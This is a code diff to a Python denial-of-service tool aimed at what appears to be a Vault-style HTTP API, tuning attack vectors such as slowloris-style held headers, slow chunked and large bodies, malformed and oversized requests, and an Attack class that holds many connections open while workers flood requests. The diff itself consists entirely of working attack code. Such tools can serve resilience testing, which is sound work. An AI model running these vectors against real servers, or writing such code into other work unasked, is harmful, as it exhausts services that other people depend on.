@@ -81,6 +81,9 @@ class Held:
     pause: float = 2.5
     """Seconds between two sendings."""
 
+    share: float = 1.0
+    """Of the connections that there may be."""
+
 
 Requests: TypeAlias = Callable[[Order], Iterator[bytes]]
 """Endless."""
@@ -98,16 +101,16 @@ def request(start: str, *fields: str, content: bytes = b"", token: str = "") -> 
 
 
 def bodies(piece: Callable[[int], bytes], start: bytes = b'{"a":[', end: bytes = b"]}") -> Requests:
-    """Requests anywhere whose bodies are such pieces, joined by commas."""
+    """Requests whose bodies are such pieces, joined by commas; each third with a token, the largest ones among them."""
 
     def requests(order: Order) -> Iterator[bytes]:
         made = {}
         for size in set(SIZES):
             number = (size - len(start) - len(end)) // (len(piece(0)) + 1)
             made[size] = start + b",".join(piece(place) for place in range(number)) + end
-        paths = cycle(("/v1/auth/cloud/login", "/v1/nowhere", "/v1/sys/policies/acl/a"))
-        for size in cycle(SIZES):
-            yield request(f"POST {next(paths)}", content=made[size])
+        places = (("auth/cloud/login", ""), ("nowhere", ""), ("sys/capabilities-self", order.token))
+        for size, (path, token) in zip(cycle(SIZES), cycle(places)):
+            yield request(f"POST /v1/{path}", content=made[size], token=token)
 
     return requests
 
@@ -232,8 +235,8 @@ def unknown_tokens(order: Order) -> Iterator[bytes]:
 
 
 PROBE: Final = request("GET /v1/sys/seal-status")
-LARGE: Final = request("POST /v1/auth/cloud/login", "Content-Length: 65000") + b"a" * 64_999
-IN_CHUNKS: Final = request("POST /v1/auth/cloud/login", "Transfer-Encoding: chunked") + b"ea60\r\n" + b"a" * 59_999
+LARGE: Final = request("POST /v1/auth/cloud/login", "Content-Length: 32000") + b"a" * 31_999
+IN_CHUNKS: Final = request("POST /v1/auth/cloud/login", "Transfer-Encoding: chunked") + b"7d00\r\n" + b"a" * 31_999
 
 VECTORS: Final[Mapping[str, Requests | Held]] = MappingProxyType(
     {
@@ -251,8 +254,8 @@ VECTORS: Final[Mapping[str, Requests | Held]] = MappingProxyType(
         "connections in use": Held(PROBE, PROBE),
         "slow heads": Held(b"GET /v1/sys/health HTTP/1.1\r\nHost: a\r\nX-One: ", b"a"),
         "slow second heads": Held(PROBE + b"GET /v1/sys/health HTTP/1.1\r\nX-One: ", b"a"),
-        "large bodies held": Held(LARGE, pause=60.0),
-        "chunks held": Held(IN_CHUNKS, pause=60.0),
+        "large bodies held": Held(LARGE, pause=60.0, share=0.5),
+        "chunks held": Held(IN_CHUNKS, pause=60.0, share=0.5),
         "malformed heads": malformed_heads,
         "malformed requests": malformed_requests,
         "oversized bodies": oversized,
@@ -299,8 +302,9 @@ class Attack:
 
     async def run(self, begun: asyncio.Event) -> None:
         async with asyncio.TaskGroup() as group:
-            for number in range(self._order.connections if self._held else 0):
-                group.create_task(self._hold(self._held[number % len(self._held)]))
+            for held in self._held:
+                for _ in range(int(self._order.connections * held.share / len(self._held))):
+                    group.create_task(self._hold(held))
             if self._sources:
                 source = (next(vector) for vector in cycle(self._sources))
                 for _ in range(WORKERS):
